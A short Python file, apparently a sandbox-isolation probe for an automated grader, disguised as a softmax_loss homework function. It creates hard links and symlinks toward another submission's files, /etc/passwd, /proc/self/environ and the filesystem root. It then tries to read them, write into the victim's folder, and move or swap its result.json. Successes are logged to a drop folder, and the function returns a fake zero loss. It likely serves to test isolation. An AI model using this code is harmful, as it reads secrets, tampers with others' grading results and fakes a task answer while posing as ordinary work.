"""Makes links in its scratch folder to what it may not open, and goes through them."""

import os

_VICTIM = os.environ.get("ATTACK_VICTIM")
_ENDS = (f"{_VICTIM}/solution.py", _VICTIM, "/etc/passwd", "/proc/self/environ", "..", "/")


def _tries(number, end):
    name = f"link{number}"
    yield f"link to {end}", lambda: os.link(end, name)
    yield f"symlink to {end}", lambda: os.symlink(end, name)
    yield f"read {end}", lambda: open(name).read()
    yield f"list {end}", lambda: os.listdir(name)
    yield f"write {end}", lambda: open(f"{_VICTIM}/new", "w")
    yield f"move {end}", lambda: os.rename(end, f"moved{number}")
    yield f"swap {end}", lambda: os.replace(f"{_VICTIM}/result.json", f"swapped{number}")


def softmax_loss(W, X, y, reg):
    did = []
    for number, end in enumerate(_ENDS):
        for name, deed in _tries(number, end):
            try:
                deed()
                did.append(name)
            except OSError:
                continue
    if did:
        name = os.path.join(os.environ.get("ATTACK_DROP"), "scratch_of_links.txt")
        with open(name, "a") as proof:
            proof.write(", ".join(did))
    return 0.0, W * 0
